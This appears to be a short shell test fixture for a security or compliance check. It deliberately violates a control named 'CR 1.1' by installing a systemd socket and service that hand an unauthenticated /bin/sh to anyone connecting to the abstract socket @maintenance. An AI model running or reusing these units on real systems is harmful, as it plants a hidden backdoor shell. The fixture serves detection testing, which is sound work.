# SPDX-License-Identifier: Apache-2.0
# breaks: CR 1.1
# how: a UNIX socket without a file is a shell
# asserts: no listener gives a prompt or output before a login
set -eu
printf '[Socket]\nListenStream=@maintenance\nAccept=yes\n' >/etc/systemd/system/maintenance.socket
printf '[Service]\nExecStart=/bin/sh\nStandardInput=socket\n' >/etc/systemd/system/maintenance@.service
systemctl daemon-reload
systemctl start maintenance.socket
